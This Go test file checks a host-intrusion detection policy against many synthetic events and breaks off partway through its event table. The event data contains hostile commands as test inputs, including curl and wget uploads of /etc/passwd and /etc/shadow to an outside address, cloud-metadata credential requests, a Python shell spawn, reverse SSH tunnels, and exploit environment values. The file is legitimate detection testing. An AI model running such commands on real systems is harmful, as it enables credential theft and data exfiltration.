// Copyright The Picket Authors
// SPDX-License-Identifier: Apache-2.0

package policy

import (
	"fmt"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/picketsec/picket/internal/event"
	"github.com/picketsec/picket/internal/secl"
)

// realPolicy is a policy that is in use. It lies beside the repository where Picket is developed.
const realPolicy = "../../../shared/policies/default_2024-03-28.policy"

func loadReal(t *testing.T) (*Set, *Report) {
	t.Helper()
	if _, err := os.Stat(filepath.FromSlash(realPolicy)); err != nil {
		t.Skip("no policy beside the repository at " + realPolicy)
	}
	// The rules of the policy have filters about the system: the machine of the test must not decide.
	set, report := Load([]string{filepath.FromSlash(realPolicy)}, Options{Machine: testMachine()})
	require.Empty(t, report.Problems())
	return set, report
}

// TestRealPolicy: what of the policy is loaded, and what is left out and why.
func TestRealPolicy(t *testing.T) {
	set, report := loadReal(t)
	require.Len(t, report.Policies, 1)
	p := report.Policies[0]
	assert.Equal(t, "1.24.0", p.Version)
	assert.Equal(t, string(StatusLoaded), p.Status)

	assert.Len(t, p.Macros, 37)
	for _, m := range p.Macros {
		assert.Equal(t, StatusLoaded, m.Status, m.ID)
		assert.Empty(t, m.Message, m.ID)
	}
	got := map[Status]int{}
	notes := map[string]string{}
	for _, r := range p.Rules {
		got[r.Status]++
		switch r.Status {
		case StatusLoaded: // each of them is for Linux and has nothing that is not executed or not known
			if r.Message != "" {
				notes[r.ID] = r.Message
			}
			assert.True(t, set.Has(r.ID), r.ID)
		case StatusFiltered:
			assert.Equal(t, `filter "os == \"windows\"" does not hold here`, r.Message, r.ID)
			assert.False(t, set.Has(r.ID), r.ID)
		default:
			t.Errorf("%s is %s: %s", r.ID, r.Status, r.Message)
		}
	}
	assert.Equal(t, map[Status]int{StatusLoaded: 165, StatusFiltered: 13}, got)
	assert.Equal(t, 165, set.Len())
	// Two rules have a pattern that lacks its ~.
	assert.Equal(t, map[string]string{
		"dynamic_linker_config_write": `"/etc/ld.so.conf.d/*.conf" is compared as it is, with its star; a pattern is ~"/etc/ld.so.conf.d/*.conf"`,
		"ssh_it_tool_config_write":    `"/root/.prng/*" is compared as it is, with its star; a pattern is ~"/root/.prng/*"`,
	}, notes)
}

// The files that the families of rules about file integrity watch, each with a file of its own. Their rules are one per
// operation; expected is in integrityRules.
var integrityFiles = map[string]string{
	"credential_modified":        "/etc/shadow",
	"cron_at_job_creation":       "/etc/cron.d/job",
	"kernel_module":              "/usr/lib/modules/6.1.0/extra/x.ko",
	"nsswitch_conf_mod":          "/etc/nsswitch.conf",
	"pam_modification":           "/etc/pam.d/sshd",
	"pci_11_5_critical_binaries": "/usr/sbin/sshd",
	"ssh_authorized_keys":        "/root/.ssh/authorized_keys",
	"ssl_certificate_tampering":  "/etc/ssl/certs/ca.pem",
	"sudoers_policy_modified":    "/etc/sudoers",
	"systemd_modification":       "/etc/systemd/system/x.service",
}

// integrityEvents are the operations, about the file FILE whose name is NAME. link and rename have the file on either side.
var integrityEvents = []struct{ operation, event string }{
	{"chmod", `"chmod.file.path":"FILE","chmod.file.name":"NAME","chmod.file.mode":33188,"chmod.file.destination.mode":33279`},
	{"chown", `"chown.file.path":"FILE","chown.file.name":"NAME","chown.file.uid":0,"chown.file.gid":0,"chown.file.destination.uid":0,"chown.file.destination.gid":1000`},
	{"link", `"link.file.path":"FILE","link.file.name":"NAME","link.file.destination.path":"/srv/NAME","link.file.destination.name":"NAME"`},
	{"link", `"link.file.path":"/srv/NAME","link.file.name":"NAME","link.file.destination.path":"FILE","link.file.destination.name":"NAME"`},
	{"open", `"open.file.path":"FILE","open.file.name":"NAME","open.flags":"O_WRONLY|O_CREAT"`},
	{"rename", `"rename.file.path":"FILE","rename.file.name":"NAME","rename.file.destination.path":"/srv/NAME","rename.file.destination.name":"NAME"`},
	{"rename", `"rename.file.path":"/srv/NAME","rename.file.name":"NAME","rename.file.destination.path":"FILE","rename.file.destination.name":"NAME"`},
	{"unlink", `"unlink.file.path":"FILE","unlink.file.name":"NAME"`},
	{"utimes", `"utimes.file.path":"FILE","utimes.file.name":"NAME"`},
	{"mkdir", `"mkdir.file.path":"FILE","mkdir.file.name":"NAME"`}, // of this operation the policy has no rule
}

const everyOperation = "chmod chown link open rename unlink utimes"

// integrityRules says of each family for which operations its rules are to match, by who does it: the families excuse
// package managers, container runtimes and their children each in a way of its own.
var integrityRules = []struct {
	by, event string
	rules     map[string]string
}{
	{
		"an editor", `"process.file.path":"/usr/bin/vim.basic","process.file.name":"vim.basic","process.comm":"vim"`,
		map[string]string{
			"credential_modified": everyOperation, "cron_at_job_creation": everyOperation, "kernel_module": everyOperation,
			"nsswitch_conf_mod": everyOperation, "pam_modification": everyOperation, "pci_11_5_critical_binaries": everyOperation,
			"ssh_authorized_keys": everyOperation, "ssl_certificate_tampering": everyOperation, "sudoers_policy_modified": everyOperation,
			"systemd_modification": everyOperation,
		},
	},
	{
		"a package manager", `"process.file.path":"/usr/bin/dpkg","process.file.name":"dpkg","process.comm":"dpkg"`,
		map[string]string{
			"credential_modified": everyOperation, // only as an ancestor is it excused
			"nsswitch_conf_mod":   "link rename unlink utimes", "pam_modification": "chmod chown link open rename unlink",
			"ssh_authorized_keys": everyOperation, "ssl_certificate_tampering": "open", // which asks for the ancestors only
			"sudoers_policy_modified": "chmod chown link rename unlink",
		},
	},
	{
		"a child of a package manager",
		`"process.file.path":"/usr/bin/perl","process.file.name":"perl","process.comm":"perl","process.ancestors":[{"file.path":"/usr/bin/dash"},{"file.path":"/usr/bin/dpkg"}]`,
		map[string]string{
			"cron_at_job_creation": everyOperation, "nsswitch_conf_mod": everyOperation, "pam_modification": everyOperation,
			"ssh_authorized_keys": everyOperation, "sudoers_policy_modified": "chown link open rename unlink utimes",
			"systemd_modification": everyOperation,
		},
	},
	{
		"a container runtime", `"process.file.path":"/usr/bin/dockerd","process.file.name":"dockerd","process.comm":"dockerd"`,
		map[string]string{
			"kernel_module": everyOperation, "nsswitch_conf_mod": "link rename unlink utimes",
			"pam_modification": "chmod chown link open rename unlink", "ssh_authorized_keys": everyOperation,
			"ssl_certificate_tampering": everyOperation, "sudoers_policy_modified": "chmod chown link open rename unlink",
			"systemd_modification": everyOperation,
		},
	},
}

// openRules are the ids about open where they are not family_open. Those that end with v2 ask for a container that is older
// than 90 s: what is not in a container was created at 0, which is longer ago.
var openRules = map[string][]string{
	"credential_modified":        {"credential_modified_open_v2"},
	"nsswitch_conf_mod":          {"nsswitch_conf_mod_open", "nsswitch_conf_mod_open_v2"},
	"pci_11_5_critical_binaries": {"pci_11_5_critical_binaries_open", "pci_11_5_critical_binaries_open_v2"},
	"ssh_authorized_keys":        {"ssh_authorized_keys_open", "ssh_authorized_keys_open_v2"},
	"ssl_certificate_tampering":  {"ssl_certificate_tampering_open", "ssl_certificate_tampering_open_v2"},
}

// realEvents are events and the ids of all rules that match them, as one finds by reading the policy: with the language's
// definition, and without running it.
var realEvents = []struct{ what, event, rules string }{
	// Programs: tools.
	{"an AppArmor tool at a terminal", `"type":"exec","exec.file.path":"/usr/sbin/aa-complain","exec.file.name":"aa-complain","exec.comm":"aa-complain","exec.tty_name":"pts0"`, "apparmor_modified_tty"},
	{"the same without a terminal", `"type":"exec","exec.file.path":"/usr/sbin/aa-complain","exec.file.name":"aa-complain","exec.comm":"aa-complain"`, ""},
	{"args_flags not in: none of the flags is", `"type":"exec","exec.file.name":"auditctl","exec.comm":"auditctl","exec.argv":["-w","/etc/passwd","-p","l"]`, "auditctl_usage"},
	{"args_flags not in: one of the flags is", `"type":"exec","exec.file.name":"auditctl","exec.comm":"auditctl","exec.argv":["-w","/etc/passwd","-l"]`, ""},
	{"a flag in a cluster", `"type":"exec","exec.file.path":"/usr/bin/base64","exec.file.name":"base64","exec.comm":"base64","exec.argv":["-di"]`, "base64_decode"},
	{"the long name of a flag is another", `"type":"exec","exec.file.path":"/usr/bin/base64","exec.file.name":"base64","exec.comm":"base64","exec.argv":["--decode"]`, ""},
	{"a network scanner", `"type":"exec","exec.file.name":"nmap","exec.comm":"nmap","exec.argv":["-p","22","198.51.100.1"]`, "common_net_intrusion_util"},
	{"a cluster has the flag that excuses it", `"type":"exec","exec.file.name":"nmap","exec.comm":"nmap","exec.argv":["-sV","198.51.100.1"]`, ""},
	{"a scanner's version", `"type":"exec","exec.file.name":"masscan","exec.comm":"masscan","exec.argv":["--version"]`, ""},
	{"a sniffer", `"type":"exec","exec.file.name":"tcpdump","exec.comm":"tcpdump","exec.argv":["-i","eth0"]`, "network_sniffing_tool"},
	{"passwords", `"type":"exec","exec.file.path":"/usr/bin/passwd","exec.file.name":"passwd","exec.argv":["bob"]`, "passwd_execution"},
	{"the status of a password, short", `"type":"exec","exec.file.path":"/usr/bin/passwd","exec.file.name":"passwd","exec.argv":["-S","bob"]`, ""},
	{"the status of a password, long", `"type":"exec","exec.file.path":"/usr/sbin/chpasswd","exec.file.name":"chpasswd","exec.argv":["--status"]`, ""},
	{"processes listed", `"type":"exec","exec.file.path":"/usr/bin/ps","exec.file.name":"ps","exec.comm":"ps","exec.argv":["aux"],"process.ancestors":[{"file.name":"bash"}]`, "ps_discovery"},
	{"argv not in: an argument is", `"type":"exec","exec.file.path":"/usr/bin/ps","exec.file.name":"ps","exec.comm":"ps","exec.argv":["-p","1"],"process.ancestors":[{"file.name":"bash"}]`, ""},
	{"an excused ancestor, whichever it is", `"type":"exec","exec.file.path":"/usr/bin/ps","exec.file.name":"ps","exec.comm":"ps","exec.argv":["aux"],"process.ancestors":[{"file.name":"bash"},{"file.name":"sh"},{"file.name":"amazon-ssm-agent"}]`, ""},
	{"an excused parent by a pattern", `"type":"exec","exec.file.path":"/usr/bin/ps","exec.file.name":"ps","exec.comm":"ps","exec.argv":["aux"],"process.ancestors":[{"file.name":"vm-agent-7"}]`, ""},
	{"the excused parent is a grandparent", `"type":"exec","exec.file.path":"/usr/bin/ps","exec.file.name":"ps","exec.comm":"ps","exec.argv":["aux"],"process.ancestors":[{"file.name":"bash"},{"file.name":"node"}]`, "ps_discovery"},
	{"a service stopped", `"type":"exec","exec.file.path":"/usr/bin/systemctl","exec.file.name":"systemctl","exec.argv":["stop","auditd"]`, "service_stop"},
	{"a service's status", `"type":"exec","exec.file.path":"/usr/bin/systemctl","exec.file.name":"systemctl","exec.argv":["status","auditd"]`, ""},
	{"a history linked to nothing", `"type":"exec","exec.file.path":"/bin/ln","exec.file.name":"ln","exec.comm":"ln","exec.argv":["-sf","/dev/null","/root/.bash_history"]`, "shell_history_symlink"},
	{"a string in a list is all of args", `"type":"exec","exec.file.path":"/bin/ln","exec.file.name":"ln","exec.comm":"ln","exec.argv":["-s","/dev/null","/tmp/x"]`, ""},
	{"an archive", `"type":"exec","exec.file.path":"/usr/bin/tar","exec.file.name":"tar","exec.argv":["-czf","a.tgz","/etc"]`, "tar_execution"},
	{"an archive, long", `"type":"exec","exec.file.path":"/usr/bin/tar","exec.file.name":"tar","exec.argv":["--create","/etc"]`, "tar_execution"},
	{"flags without a dash are none", `"type":"exec","exec.file.path":"/usr/bin/tar","exec.file.name":"tar","exec.argv":["czf","a.tgz","/etc"]`, ""},
	{"another path", `"type":"exec","exec.file.path":"/bin/tar","exec.file.name":"tar","exec.argv":["-czf","a.tgz","/etc"]`, ""},
	{"a user made", `"type":"exec","exec.file.path":"/usr/sbin/useradd","exec.file.name":"useradd","exec.tty_name":"pts1","exec.argv":["-m","eve"]`, "user_created_tty"},
	{"only the defaults shown", `"type":"exec","exec.file.path":"/usr/sbin/useradd","exec.file.name":"useradd","exec.tty_name":"pts1","exec.argv":["-D"]`, ""},
	{"a user made by a package", `"type":"exec","exec.file.path":"/usr/sbin/useradd","exec.file.name":"useradd","exec.tty_name":"pts1","process.ancestors":[{"file.path":"/usr/bin/dash"},{"file.path":"/usr/bin/apt-get"}]`, ""},
	{"a user removed", `"type":"exec","exec.file.path":"/usr/sbin/userdel","exec.file.name":"userdel","exec.tty_name":"pts1"`, "user_deleted_tty"},
	{"a user removed by a service", `"type":"exec","exec.file.path":"/usr/sbin/userdel","exec.file.name":"userdel"`, ""},
	{"who am I", `"type":"exec","exec.file.path":"/usr/bin/whoami","exec.file.name":"whoami","exec.comm":"whoami"`, "exec_whoami"},
	{"modules listed", `"type":"exec","exec.file.path":"/usr/bin/kmod","exec.file.name":"kmod","exec.comm":"lsmod"`, "exec_lsmod"},
	{"modules listed by kmod", `"type":"exec","exec.file.path":"/usr/bin/kmod","exec.file.name":"kmod","exec.comm":"kmod","exec.argv":["list"]`, "kmod_list"},
	{"model-specific registers", `"type":"exec","exec.file.name":"wrmsr","exec.comm":"wrmsr"`, "exec_wrmsr"},
	{"writes to them allowed", `"type":"exec","exec.file.name":"kmod","exec.comm":"modprobe","exec.argv":["msr","allow_writes=on"]`, "kernel_msr_write"},
	{"the words in the other order", `"type":"exec","exec.file.name":"kmod","exec.comm":"modprobe","exec.argv":["allow_writes=on","msr"]`, ""},
	{"traffic let out", `"type":"exec","exec.file.name":"xtables-nft-multi","exec.comm":"iptables","exec.argv":["-A","OUTPUT","-d","8.8.8.8","-j","ACCEPT"]`, "iptables_egress_allowed"},
	{"to a private address", `"type":"exec","exec.file.name":"xtables-nft-multi","exec.comm":"iptables","exec.argv":["-A","OUTPUT","-d","10.1.2.3","-j","ACCEPT"]`, ""},
	{"the chain is another", `"type":"exec","exec.file.name":"xtables-nft-multi","exec.comm":"iptables","exec.argv":["-A","INPUT","-d","8.8.8.8","-j","ACCEPT"]`, ""},
	{"Kubernetes tools by an argument", `"type":"exec","exec.file.name":"python3.11","exec.comm":"python3","exec.argv":["KubiScan.py","-rs"]`, "offensive_k8s_tool"},
	{"the argument has a directory", `"type":"exec","exec.file.name":"python3.11","exec.comm":"python3","exec.argv":["/opt/KubiScan.py","-rs"]`, ""},
	{"Kubernetes tools by a pattern", `"type":"exec","exec.file.name":"botb-linux-amd64"`, "offensive_k8s_tool"},
	{"the pattern asks for more", `"type":"exec","exec.file.name":"botb"`, ""},
	{"Python code with a socket", `"type":"exec","exec.file.name":"python3","exec.comm":"python3","exec.argv":["-c","import socket;s=socket.socket(2,socket.SOCK_STREAM)"]`, "python_cli_code"},
	{"a star in a string is a star", `"type":"exec","exec.file.name":"python3","exec.comm":"python3","exec.argv":["-c","import pty;pty.spawn('/bin/sh')"]`, ""},
	{"excused by !~", `"type":"exec","exec.file.name":"python3","exec.comm":"python3","exec.argv":["-c","import setuptools, subprocess"]`, ""},
	{"an ssh tunnel", `"type":"exec","exec.file.name":"ssh","exec.comm":"ssh","exec.argv":["-R","8080:localhost:80","u@198.51.100.77"]`, "tunnel_traffic"},
	{"an address with one digit between dots", `"type":"exec","exec.file.name":"ssh","exec.comm":"ssh","exec.argv":["-R","8080:localhost:80","u@203.0.113.7"]`, ""},
	{"no flag of a tunnel", `"type":"exec","exec.file.name":"ssh","exec.comm":"ssh","exec.argv":["-v","u@198.51.100.77"]`, ""},
	{"socat listens", `"type":"exec","exec.file.name":"socat1","exec.comm":"socat","exec.argv":["TCP4-LISTEN:80,fork","TCP:198.51.100.7:81"]`, "net_util tunnel_traffic"},
	{"a tunnel from a shell", `"type":"exec","exec.file.name":"ngrok","exec.comm":"ngrok","process.ancestors":[{"comm":"bash"}]`, "tunnel_traffic"},
	{"a tunnel from a service", `"type":"exec","exec.file.name":"ngrok","exec.comm":"ngrok","process.ancestors":[{"comm":"systemd"}]`, ""},
	{"a flag with its value apart", `"type":"exec","exec.file.name":"gost","exec.comm":"gost","exec.argv":["-L",":8080"]`, "tunnel_traffic"},
	{"an option with its value is no flag", `"type":"exec","exec.file.name":"gost","exec.comm":"gost","exec.argv":["-L=:8080"]`, ""},
	{"the other flag of sshuttle", `"type":"exec","exec.file.name":"sshuttle","exec.comm":"sshuttle","exec.argv":["--listen","0.0.0.0:12300","-r","h"]`, "tunnel_traffic"},

	// Programs: the network.
	{"a network tool on the host", `"type":"exec","exec.file.name":"dig","exec.comm":"dig","exec.argv":["example.org"]`, "net_util"},
	{"the same in a container", `"type":"exec","exec.file.name":"dig","exec.comm":"dig","exec.argv":["example.org"],"container.id":"abc"`, "net_util_in_container"},
	{"a pattern takes in others", `"type":"exec","exec.file.name":"ncdu","exec.comm":"ncdu","exec.argv":["/"]`, "net_util"},
	{"to this host", `"type":"exec","exec.file.name":"nc.openbsd","exec.comm":"nc","exec.argv":["localhost","80"]`, ""},
	{"credentials of AWS", `"type":"exec","exec.file.path":"/usr/bin/curl","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-s","http://169.254.169.254/latest/meta-data/iam/security-credentials/role"],"container.id":"abc"`, "aws_imds net_util_in_container"},
	{"other metadata of AWS", `"type":"exec","exec.file.path":"/usr/bin/curl","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-s","http://169.254.169.254/latest/meta-data/instance-id"]`, "net_util"},
	{"credentials of AWS for containers", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["http://169.254.170.2/v2/credentials?id=7"]`, "aws_imds net_util"},
	{"credentials of Azure", `"type":"exec","exec.file.name":"wget","exec.comm":"wget","exec.argv":["http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"]`, "azure_imds net_util"},
	{"credentials of GCP", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-H","Metadata-Flavor: Google","http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"]`, "gcp_imds net_util"},
	{"the pattern ends before", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token?x=1"]`, "net_util"},
	{"a file sent as a form", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-F","file=@/etc/passwd","http://198.51.100.1/"]`, "net_util net_util_exfiltration"},
	{"a file sent as data", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-d","@/etc/passwd","http://198.51.100.1/"]`, "net_util net_util_exfiltration"},
	{"data that is no file", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-d","x=1","http://198.51.100.1/"]`, "net_util"},
	{"an option with = in a container", `"type":"exec","exec.file.name":"wget","exec.comm":"wget","exec.argv":["--post-file=/etc/shadow","http://198.51.100.1/x.php"],"container.id":"abc"`, "net_unusual_request net_util_exfiltration net_util_in_container"},
	{"sent to this host", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["-T","/etc/shadow","http://127.0.0.1/"]`, ""},
	{"a page", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["http://198.51.100.1/a.php?x"]`, "net_unusual_request net_util"},
	{"the Docker socket, with a string for a pattern", `"type":"exec","exec.file.name":"curl","exec.comm":"curl","exec.argv":["--unix-socket","/var/run/docker.sock","http://d/info"],"container.id":"abc"`, "net_util_in_container"},

	// Programs: miners, environments, files of certain kinds.
	{"a miner by its pool", `"type":"exec","exec.file.name":"x","exec.comm":"x","exec.argv":["-o","stratum+tcp://pool.example:3333"]`, "cryptominer_args"},
	{"a miner by its flags", `"type":"exec","exec.file.name":"x","exec.comm":"x","exec.argv":["--donate-level","1"]`, "cryptominer_args"},
	{"the option with its value is no flag", `"type":"exec","exec.file.name":"x","exec.comm":"x","exec.argv":["--donate-level=1"]`, ""},
	{"a miner by its environment", `"type":"exec","exec.file.name":"x","exec.comm":"x","exec.envp":["HOME=/","POOL_URL=x"]`, "cryptominer_envs"},
	{"a longer name of a variable", `"type":"exec","exec.file.name":"x","exec.comm":"x","exec.envp":["POOL_URLS=x"]`, ""},
	{"envs are names: no value matches", `"type":"exec","exec.file.name":"x","exec.comm":"x","exec.envp":["LD_PRELOAD=/dev/shm/x.so"]`, ""},
	{"GLIBC_TUNABLES and setuid", `"type":"exec","exec.file.path":"/usr/bin/su","exec.file.name":"su","exec.file.mode":35309,"exec.file.uid":0,"exec.uid":1000,"exec.envp":["GLIBC_TUNABLES=x"]`, "looney_tunables_exploit"},
	{"by root", `"type":"exec","exec.file.path":"/usr/bin/su","exec.file.name":"su","exec.file.mode":35309,"exec.file.uid":0,"exec.uid":0,"exec.envp":["GLIBC_TUNABLES=x"]`, ""},
	{"without setuid", `"type":"exec","exec.file.path":"/usr/bin/su","exec.file.name":"su","exec.file.mode":33261,"exec.file.uid":0,"exec.uid":1000,"exec.envp":["GLIBC_TUNABLES=x"]`, ""},
	{"pkexec without a desktop", `"type":"exec","exec.file.path":"/usr/bin/pkexec","exec.file.name":"pkexec","exec.uid":1000,"exec.envp":["PATH=GCONV_PATH=."]`, "pwnkit_privilege_escalation"},
	{"pkexec in a desktop", `"type":"exec","exec.file.path":"/usr/bin/pkexec","exec.file.name":"pkexec","exec.uid":1000,"exec.envp":["PATH=/bin","DISPLAY=:0"]`, ""},
	{"pkexec without an environment", `"type":"exec","exec.file.path":"/usr/bin/pkexec","exec.file.name":"pkexec","exec.uid":1000`, ""},
	{"a hidden program", `"type":"exec","exec.file.path":"/tmp/.x","exec.file.name":".x"`, "hidden_file_executed"},
	{"a hidden program, deeper", `"type":"exec","exec.file.path":"/home/u/a/b/.y","exec.file.name":".y"`, "hidden_file_executed"},
	{"a hidden directory", `"type":"exec","exec.file.path":"/tmp/.x/y","exec.file.name":"y"`, ""},
	{"a hidden program elsewhere", `"type":"exec","exec.file.path":"/opt/.x","exec.file.name":".x"`, ""},
	{"a program without a file", `"type":"exec","exec.file.name":"memfd:x"`, "memfd_create"},
	{"a file of such a name", `"type":"exec","exec.file.path":"/opt/memfd:x","exec.file.name":"memfd:x"`, ""},
	{"setuid, written a moment ago", `"type":"exec","exec.file.path":"/opt/x","exec.file.name":"x","exec.file.mode":35309,"exec.file.modification_time":"now-10s"`, "suspicious_suid_execution"},
	{"setuid, written before that", `"type":"exec","exec.file.path":"/opt/x","exec.file.name":"x","exec.file.mode":35309,"exec.file.modification_time":"now-30s"`, ""},
	{"when it was written is not known", `"type":"exec","exec.file.path":"/opt/x","exec.file.name":"x","exec.file.mode":35309`, ""},
	{"an excused ancestor by path", `"type":"exec","exec.file.path":"/opt/x","exec.file.name":"x","exec.file.mode":35309,"exec.file.modification_time":"now-10s","process.ancestors":[{"file.path":"/bin/sh"},{"file.path":"/opt/datadog-agent/embedded/bin/agent"}]`, ""},

	// Programs: containers.
	{"a compiler", `"type":"exec","exec.file.name":"gcc","exec.comm":"gcc","container.id":"abc"`, "compiler_in_container"},
	{"a compiler on the host", `"type":"exec","exec.file.name":"gcc","exec.comm":"gcc"`, ""},
	{"go build", `"type":"exec","exec.file.name":"go","exec.comm":"go","exec.argv":["build","./..."],"container.id":"abc"`, "compiler_in_container"},
	{"go vet", `"type":"exec","exec.file.name":"go","exec.comm":"go","exec.argv":["vet","./..."],"container.id":"abc"`, ""},
	{"ancestors !=: none of them is", `"type":"exec","exec.file.name":"clang","exec.comm":"clang","container.id":"abc","process.ancestors":[{"file.path":"/bin/sh"},{"file.path":"/usr/bin/cilium-agent"}]`, ""},
	{"an interactive shell at a terminal", `"type":"exec","exec.file.path":"/bin/bash","exec.file.name":"bash","exec.comm":"bash","exec.argv":["-i"],"exec.tty_name":"pts0","container.id":"abc"`, "interactive_shell_in_container tty_shell_in_container"},
	{"an interactive shell without one", `"type":"exec","exec.file.path":"/bin/bash","exec.file.name":"bash","exec.comm":"bash","exec.argv":["-i"],"container.id":"abc"`, "interactive_shell_in_container"},
	{"another shell at a terminal", `"type":"exec","exec.file.path":"/usr/bin/fish","exec.file.name":"fish","exec.comm":"fish","exec.tty_name":"pts0","container.id":"abc"`, "tty_shell_in_container"},
	{"a shell of another path", `"type":"exec","exec.file.path":"/opt/bash","exec.file.name":"bash","exec.comm":"bash","exec.argv":["-i"],"exec.tty_name":"pts0","container.id":"abc"`, ""},
	{"a shell on the host", `"type":"exec","exec.file.path":"/bin/bash","exec.file.name":"bash","exec.comm":"bash","exec.argv":["-i"],"exec.tty_name":"pts0"`, ""},
	{"a new program", `"type":"exec","exec.file.path":"/srv/x","exec.file.name":"x","exec.file.in_upper_layer":true,"exec.file.modification_time":"now-29s","container.id":"abc"`, "new_binary_execution_in_container"},
	{"it is 30 s old", `"type":"exec","exec.file.path":"/srv/x","exec.file.name":"x","exec.file.in_upper_layer":true,"exec.file.modification_time":"now-30s","container.id":"abc"`, ""},
	{"it is of the image", `"type":"exec","exec.file.path":"/srv/x","exec.file.name":"x","exec.file.in_upper_layer":false,"exec.file.modification_time":"now-1s","container.id":"abc"`, ""},
	{"a package manager", `"type":"exec","exec.file.path":"/usr/bin/apt-get","exec.file.name":"apt-get","container.id":"abc"`, "package_management_in_container"},
	{"the star is within a directory", `"type":"exec","exec.file.path":"/usr/bin/apt/get","exec.file.name":"get","container.id":"abc"`, ""},
	{"a client of containers", `"type":"exec","exec.file.path":"/usr/local/bin/kubectl","exec.file.name":"kubectl","container.id":"abc"`, "suspicious_container_client"},
	{"a privileged container", `"type":"exec","exec.file.path":"/app","exec.file.name":"app","process.cap_permitted":"CAP_CHOWN|CAP_SYS_ADMIN","container.id":"abc","container.created_at":"now-999ms"`, "deploy_priv_container"},
	{"it is a second old", `"type":"exec","exec.file.path":"/app","exec.file.name":"app","process.cap_permitted":"CAP_CHOWN|CAP_SYS_ADMIN","container.id":"abc","container.created_at":"now-1s"`, ""},
	{"without the capability", `"type":"exec","exec.file.path":"/app","exec.file.name":"app","process.cap_permitted":"CAP_CHOWN","container.id":"abc","container.created_at":"now-10ms"`, ""},

	// Programs: by their parents.
	{"a shell of a database", `"type":"exec","exec.file.path":"/bin/sh","exec.file.name":"sh","exec.comm":"sh","exec.argv":["-c","id"],"process.ancestors":[{"file.name":"mysqld","comm":"mysqld"}]`, "database_shell_execution"},
	{"PostgreSQL's own commands", `"type":"exec","exec.file.path":"/bin/sh","exec.file.name":"sh","exec.comm":"sh","exec.argv":["-c","cp pg_wal/1 /a"],"process.ancestors":[{"file.name":"postgres","comm":"postgres"}]`, ""},
	{"the same of another database", `"type":"exec","exec.file.path":"/bin/sh","exec.file.name":"sh","exec.comm":"sh","exec.argv":["-c","cp pg_wal/1 /a"],"process.ancestors":[{"file.name":"mongod","comm":"mongod"}]`, "database_shell_execution"},
	{"a tool of Java", `"type":"exec","exec.file.path":"/usr/bin/id","exec.file.name":"id","exec.comm":"id","process.ancestors":[{"file.name":"java","comm":"java"}]`, "java_shell_execution_parent"},
	{"Java is only a grandparent", `"type":"exec","exec.file.path":"/usr/bin/id","exec.file.name":"id","exec.comm":"id","process.ancestors":[{"file.name":"bash","comm":"bash"},{"file.name":"java","comm":"java"}]`, ""},
	{"a web shell", `"type":"exec","exec.file.path":"/bin/sh","exec.file.name":"sh","exec.comm":"sh","exec.argv":["-c","id"],"process.ancestors":[{"file.name":"php-fpm8.2","comm":"php-fpm8.2"}]`, "potential_web_shell_parent"},
	{"a web server's download", `"type":"exec","exec.file.path":"/opt/curl","exec.file.name":"curl","exec.comm":"curl","exec.argv":["http://198.51.100.1/x.sh"],"process.ancestors":[{"file.name":"apache2","comm":"apache2"}]`, "net_util potential_web_shell_parent"},
	{"no shell", `"type":"exec","exec.file.path":"/usr/bin/python3","exec.file.name":"python3","exec.comm":"python3","process.ancestors":[{"file.name":"nginx","comm":"nginx"}]`, ""},
	{"a notebook", `"type":"exec","exec.file.path":"/opt/sh","exec.file.name":"sh","exec.comm":"sh","process.ancestors":[{"comm":"python3"},{"comm":"jupyter-noteboo"}]`, "jupyter_shell_execution"},
	{"no notebook's name", `"type":"exec","exec.file.path":"/opt/sh","exec.file.name":"sh","exec.comm":"sh","process.ancestors":[{"comm":"python3"},{"comm":"jupyter-notebook"}]`, ""},
	{"below omiagent", `"type":"exec","exec.file.path":"/opt/x","exec.file.name":"x","exec.uid":0,"process.ancestors":[{"file.name":"bash"},{"file.name":"omiagent"}]`, "omigod"},
	{
		"many at once", `"type":"exec","exec.file.path":"/bin/bash","exec.file.name":"bash","exec.comm":"bash","exec.argv":["-i"],"exec.tty_name":"pts0","exec.file.in_upper_layer":true,"exec.file.modification_time":"now-2s","exec.file.mode":35309,"exec.uid":33,"exec.file.uid":0,"exec.envp":["GLIBC_TUNABLES=x","POOL_USER=x"],"process.cap_permitted":"CAP_SYS_ADMIN","container.id":"abc","container.created_at":"now-500ms","process.ancestors":[{"file.name":"nginx","comm":"nginx"},{"file.name":"omiagent","comm":"omiagent"}]`,
		"cryptominer_envs deploy_priv_container interactive_shell_in_container looney_tunables_exploit new_binary_execution_in_container omigod potential_web_shell_parent suspicious_suid_execution tty_shell_in_container",
	},

	// Files that are opened.
	{"auditd's configuration", `"type":"open","open.file.path":"/etc/audit/auditd.conf","open.file.name":"auditd.conf","open.flags":"O_WRONLY","process.file.name":"vim"`, "auditd_config_modified"},
	{"only read", `"type":"open","open.file.path":"/etc/audit/auditd.conf","open.file.name":"auditd.conf","open.flags":"O_RDONLY|O_CLOEXEC","process.file.name":"vim"`, ""},
	{"by its own tool", `"type":"open","open.file.path":"/etc/audit/auditd.conf","open.file.name":"auditd.conf","open.flags":"O_WRONLY","process.file.name":"auditctl"`, ""},
	{"auditd's rules", `"type":"open","open.file.path":"/etc/audit/rules.d/audit.rules","open.file.name":"audit.rules","open.flags":"O_RDWR","process.file.name":"vim"`, "auditd_rule_file_modified"},
	{"a token of EKS", `"type":"open","open.file.path":"/var/run/secrets/eks.amazonaws.com/serviceaccount/token","open.file.name":"token","process.file.path":"/bin/cat"`, "aws_eks_service_account_token_accessed"},
	{"another file beside it", `"type":"open","open.file.path":"/var/run/secrets/eks.amazonaws.com/serviceaccount/ca.crt","open.file.name":"ca.crt","process.file.path":"/bin/cat"`, ""},
